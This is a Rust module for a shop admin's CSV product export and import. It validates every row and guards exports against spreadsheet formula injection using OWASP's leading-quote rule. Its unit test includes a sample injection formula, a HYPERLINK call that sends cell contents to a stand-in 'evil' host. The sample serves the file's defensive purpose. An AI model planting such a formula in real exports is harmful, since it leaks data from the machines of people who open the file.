//! Products as CSV: `GET /admin/products.csv` exports them all; `POST /admin/products/import`
//! applies a file with the same columns (create when `id` is empty, update when it is set).
//! Every row is checked first, and either all are applied in one transaction or none, with
//! a page listing each bad row and why. Quoting follows RFC 4180 (the `csv` crate).
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
//! as a formula, so a product named `=HYPERLINK(…)` would run on the machine of whoever opens
//! the export. Text cells that would are exported behind a `'` (OWASP's rule), which the
//! import takes off again: export, then import, changes no name or description.

use std::borrow::Cow;
use std::collections::HashMap;

use actix_multipart::form::{bytes::Bytes as UploadBytes, text::Text, MultipartForm};
use actix_web::http::{header, StatusCode};
use actix_web::{web, HttpResponse};
use askama::Template;

use crate::db;
use crate::domain::product::VariantDraft;
use crate::domain::product::{parse_sku, parse_tax_class, ProductDraft};
use crate::domain::tax::TaxClass;
use crate::domain::{Money, ProductStatus};
use crate::models::{category, now, product, variant};
use crate::services::catalog_admin::{self, ImportRow, VariantImportRow};
use crate::web::admin::actor;
use crate::web::csrf::{read_multipart, CarriesToken};
use crate::web::error::AppError;
use crate::web::flash::{self};
use crate::web::page::{render, PageContext};
use crate::web::visit::{AdminAction, AdminVisit, Reply};

/// The columns an import needs, in the order the export writes them; the export appends
/// [`OPTIONAL_COLUMNS`], which an import reads when present.
pub const COLUMNS: [&str; 7] = [
    "id",
    "name",
    "category",
    "price",
    "stock",
    "status",
    "description",
];

/// What starts a formula in a spreadsheet cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell safe to open in a spreadsheet: one that would start a formula gets a leading
/// `'`; so does one that is already quotes and then a formula character, so that
/// [`unprotect`] can tell them apart.
fn protect(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches('\'').starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as it was before [`protect`].
fn unprotect(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_STARTS) => rest,
        _ => text,
    }
}

/// Columns an import may leave out: `tax_class` (then `standard`), `sku` (then none; a row
/// with a SKU and no id updates the product with that SKU) and `variant` (a row naming one is
/// a variant of product `id`, matched by its `sku`: its name, price and stock; the export
/// writes each product's own row, then one row per variant on sale).
pub const OPTIONAL_COLUMNS: [&str; 3] = ["tax_class", "sku", "variant"];

fn csv_error(e: impl std::fmt::Display) -> AppError {
    AppError::Internal(format!("csv: {e}"))
}

/// `GET /admin/products.csv`.
pub async fn export(v: AdminAction) -> Reply {
    let AdminAction { state, .. } = v;
    let (rows, variants) = db::run(&state.pool, |conn| {
        Ok((product::all_for_export(conn)?, variant::all_on_sale(conn)?))
    })
    .await?;
    let mut variants = variants.iter().peekable();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(COLUMNS.iter().chain(OPTIONAL_COLUMNS.iter()))
        .map_err(csv_error)?;
    for (p, slug) in rows {
        let status = p.status;
        writer
            .write_record([
                p.id.to_string().as_str(),
                &protect(&p.name),
                &protect(&slug),
                &Money::from_cents(p.price_cents).to_decimal_string(),
                &p.stock.to_string(),
                &protect(status.as_str()),
                &protect(&p.description),
                p.tax_class.as_str(),
                &protect(p.sku.as_deref().unwrap_or("")),
                "",
            ])
            .map_err(csv_error)?;
        while let Some(v) = variants.next_if(|v| v.product_id == p.id) {
            writer
                .write_record([
                    p.id.to_string().as_str(),
                    &protect(&p.name),
                    &protect(&slug),
                    &v.price(p.price_cents).to_decimal_string(),
                    &v.stock.to_string(),
                    &protect(status.as_str()),
                    &protect(&p.description),
                    p.tax_class.as_str(),
                    &protect(&v.sku),
                    &protect(&v.name),
                ])
                .map_err(csv_error)?;
        }
    }
    let body = writer.into_inner().map_err(csv_error)?;
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            header::CONTENT_DISPOSITION,
            "attachment; filename=\"products.csv\"",
        ))
        .insert_header((header::CACHE_CONTROL, "no-store"))
        .body(body))
}

/// The import form as posted (the file within `limits::MULTIPART_BYTES`).
#[derive(Debug, MultipartForm)]
pub struct ImportUpload {
    file: Option<UploadBytes>,
    #[multipart(limit = "64 KiB")]
    csrf_token: Option<Text<String>>,
}

impl CarriesToken for ImportUpload {
    fn csrf_token(&self) -> Option<&str> {
        self.csrf_token.as_ref().map(|t| t.0.as_str())
    }
}

/// A bad row and why.
struct BadRow {
    line: u64,
    messages: Vec<String>,
}

#[derive(Template)]
#[template(path = "admin/import.html")]
struct ImportPage {
    page: PageContext,
    problems: Vec<BadRow>,
}

fn refuse(page: PageContext, problems: Vec<BadRow>) -> Result<HttpResponse, AppError> {
    render(StatusCode::BAD_REQUEST, &ImportPage { page, problems })
}

fn whole_file(message: &str) -> Vec<BadRow> {
    vec![BadRow {
        line: 0,
        messages: vec![message.to_string()],
    }]
}

/// A variant row: its product id (if given) and fields, checked.
fn read_variant_row(
    line: u64,
    field: impl Fn(&str) -> String,
    name: &str,
) -> Result<VariantImportRow, BadRow> {
    let mut messages = Vec::new();
    let product_id = match field("id").trim() {
        "" => None,
        text => text.parse::<i32>().ok().filter(|id| *id > 0).or_else(|| {
            messages.push(format!("id: {text:?} is not a product number."));
            None
        }),
    };
    match VariantDraft::parse(name, &field("sku"), &field("price"), &field("stock")) {
        Ok(draft) if messages.is_empty() => Ok(VariantImportRow {
            line,
            product_id,
            draft,
        }),
        result => {
            if let Err(errors) = result {
                messages.extend(
                    errors
                        .into_iter()
                        .map(|(f, m)| format!("{}: {m}", if f == "name" { "variant" } else { f })),
                );
            }
            Err(BadRow { line, messages })
        }
    }
}

/// The checked rows of a file: products, then variants.
type Rows = (Vec<ImportRow>, Vec<VariantImportRow>);

/// Reads and checks every row; the rows, or every problem found.
fn read_rows(data: &[u8], categories: &HashMap<String, i32>) -> Result<Rows, Vec<BadRow>> {
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(data);
    let headers = reader
        .headers()
        .map_err(|e| whole_file(&format!("The file is not CSV: {e}")))?
        .clone();
    let position: HashMap<&str, usize> = headers
        .iter()
        .enumerate()
        .map(|(i, h)| (h.trim(), i))
        .collect();
    let missing: Vec<&str> = COLUMNS
        .into_iter()
        .filter(|c| !position.contains_key(c))
        .collect();
    if !missing.is_empty() {
        return Err(whole_file(&format!(
            "The header row lacks the column(s) {}; it needs {}.",
            missing.join(", "),
            COLUMNS.join(", ")
        )));
    }
    let mut rows = Vec::new();
    let mut variant_rows = Vec::new();
    let mut problems = Vec::new();
    for record in reader.records() {
        let record = match record {
            Ok(record) => record,
            Err(e) => {
                let line = e.position().map_or(0, |p| p.line());
                problems.push(BadRow {
                    line,
                    messages: vec![format!("This row cannot be read: {e}")],
                });
                continue;
            }
        };
        let line = record.position().map_or(0, |p| p.line());
        let field = |name: &str| unprotect(record.get(position[name]).unwrap_or(""));
        let cell = |name: &str| {
            position
                .get(name)
                .map_or("", |&at| unprotect(record.get(at).unwrap_or("")))
                .to_string()
        };
        let variant = cell("variant");
        if !variant.trim().is_empty() {
            match read_variant_row(line, cell, &variant) {
                Ok(row) => variant_rows.push(row),
                Err(bad) => problems.push(bad),
            }
            continue;
        }
        let mut messages = Vec::new();
        let id = match field("id").trim() {
            "" => None,
            text => match text.parse::<i32>() {
                Ok(id) if id > 0 => Some(id),
                _ => {
                    messages.push(format!(
                        "id: {text:?} is not a product number (leave it empty to create)."
                    ));
                    None
                }
            },
        };
        let slug = field("category").trim();
        let category_id = match categories.get(slug) {
            Some(id) => id.to_string(),
            None => {
                messages.push(format!(
                    "category: there is no category with the slug {slug:?}."
                ));
                String::new()
            }
        };
        let status = match field("status").trim() {
            "active" | "" => Some(ProductStatus::Active),
            "archived" => Some(ProductStatus::Archived),
            other => {
                messages.push(format!("status: {other:?} is neither active nor archived."));
                None
            }
        };
        let tax_class = match position.get("tax_class") {
            Some(&at) => parse_tax_class(unprotect(record.get(at).unwrap_or("")))
                .map_err(|why| messages.push(format!("tax_class: {why}")))
                .ok(),
            None => Some(TaxClass::Standard),
        };
        let sku = match position.get("sku") {
            Some(&at) => parse_sku(unprotect(record.get(at).unwrap_or("")))
                .map_err(|why| messages.push(format!("sku: {why}")))
                .ok()
                .flatten(),
            None => None,
        };
        let draft = ProductDraft::parse(
            field("name"),
            field("description"),
            field("price"),
            field("stock"),
            &category_id,
        )
        .map(|draft| ProductDraft {
            tax_class: tax_class.unwrap_or(TaxClass::Standard),
            sku,
            ..draft
        });
        match (draft, status) {
            (Ok(draft), Some(status)) if messages.is_empty() => rows.push(ImportRow {
                line,
                id,
                draft,
                status,
            }),
            (draft, _) => {
                if let Err(errors) = draft {
                    messages.extend(
                        errors
                            .into_iter()
                            .filter(|(f, _)| *f != "category_id" || !category_id.is_empty())
                            .map(|(f, m)| {
                                format!("{}: {m}", if f == "category_id" { "category" } else { f })
                            }),
                    );
                }
                problems.push(BadRow { line, messages });
            }
        }
    }
    if problems.is_empty() {
        Ok((rows, variant_rows))
    } else {
        Err(problems)
    }
}

/// `POST /admin/products/import`.
pub async fn import(v: AdminVisit, payload: web::Payload) -> Reply {
    let (req, state, page, admin) = v.into_parts();
    let upload: ImportUpload = read_multipart(&req, payload).await?;
    let Some(file) = upload.file.filter(|f| !f.data.is_empty()) else {
        return refuse(page, whole_file("Choose a CSV file to import."));
    };
    let categories: HashMap<String, i32> =
        db::run(&state.pool, |conn| Ok(category::all_links(conn)?))
            .await?
            .into_iter()
            .map(|c| (c.slug, c.id))
            .collect();
    let (rows, variant_rows) = match read_rows(&file.data, &categories) {
        Ok(rows) => rows,
        Err(problems) => return refuse(page, problems),
    };
    if rows.is_empty() && variant_rows.is_empty() {
        return refuse(page, whole_file("The file has no rows after the header."));
    }
    let actor = actor(&admin);
    let applied = db::run(&state.pool, move |conn| {
        catalog_admin::import_products(conn, &actor, (&rows, &variant_rows), now())
    })
    .await?;
    match applied {
        Ok(summary) => {
            log::info!(
                "admin {} imported {} new and {} changed products",
                admin.0.id,
                summary.created,
                summary.updated
            );
            Ok(flash::success(
                &req,
                match summary.variants {
                    0 => format!(
                        "Imported: {} created, {} updated.",
                        summary.created, summary.updated
                    ),
                    n => format!(
                        "Imported: {} created, {} updated, {n} variants.",
                        summary.created, summary.updated
                    ),
                },
                "/admin/products",
            ))
        }
        Err(missing) => refuse(
            page,
            missing
                .into_iter()
                .map(|(line, message)| BadRow {
                    line,
                    messages: vec![message],
                })
                .collect(),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_exported_behind_a_quote_and_imported_without_it() {
        for text in [
            "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
            "+1 Mug",
            "-5% Lamp",
            "@SUM(A1)",
            "\tTabbed",
            "\rReturned",
            "'=already quoted",
            "''@twice",
        ] {
            let exported = protect(text);
            assert!(exported.starts_with('\''), "{text:?} -> {exported:?}");
            assert_eq!(unprotect(&exported), text);
        }
        for text in ["Lamp", "'Tis the season", "''", "'", "", "a=b", "100 % -"] {
            assert_eq!(protect(text), text, "{text:?} is left as it is");
            assert_eq!(unprotect(text), text);
        }
    }
}
